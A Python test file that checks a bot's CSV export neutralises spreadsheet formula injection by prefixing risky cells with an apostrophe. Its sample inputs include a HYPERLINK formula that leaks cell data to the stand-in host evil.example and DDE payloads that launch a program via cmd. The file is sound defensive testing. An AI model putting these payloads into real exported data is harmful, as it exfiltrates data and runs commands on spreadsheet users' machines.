"""CSV formula injection (OWASP "CSV Injection"): every CSV partnerbot writes starts a cell that a
spreadsheet would run as a formula with an apostrophe, through the csv module's own quoting."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.cli.render import write_stats_csv
from bot.domain import AnnouncementStatus
from bot.domain.analytics import AnnouncementStats
from bot.safety import FORMULA_STARTS, spreadsheet_safe

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Acme", "", "a=b", "'=already quoted", " =1", "100%", "x@y.example"])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12.5, None, True])
def test_numbers_and_other_values_are_untouched(value: object) -> None:
    # A number is not a formula: a negative score stays a number the spreadsheet can add up.
    assert spreadsheet_safe(value) is value


@given(st.text())
def test_no_safe_cell_starts_a_formula_and_nothing_is_lost(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert isinstance(safe, str)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


def test_the_stats_csv_neutralises_titles_and_keeps_numbers() -> None:
    stats = AnnouncementStats(
        announcement_id=7,
        title='=HYPERLINK("http://evil.example","Price list")',
        status=AnnouncementStatus.SENT,
        targeted=5,
        delivered=4,
        failed=1,
        pending=0,
        in_digest=0,
        reactions={},
        questions_asked=0,
        questions_answered=0,
        reach_by_tier={"@gold": 3},
        reach_by_region={},
        failures_by_reason={},
    )
    stream = io.StringIO()
    write_stats_csv([stats], stream)
    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert row["title"] == '\'=HYPERLINK("http://evil.example","Price list")'
    assert row["reach_by_tier"] == "'@gold=3"
    assert row["id"] == "7" and row["delivered"] == "4"
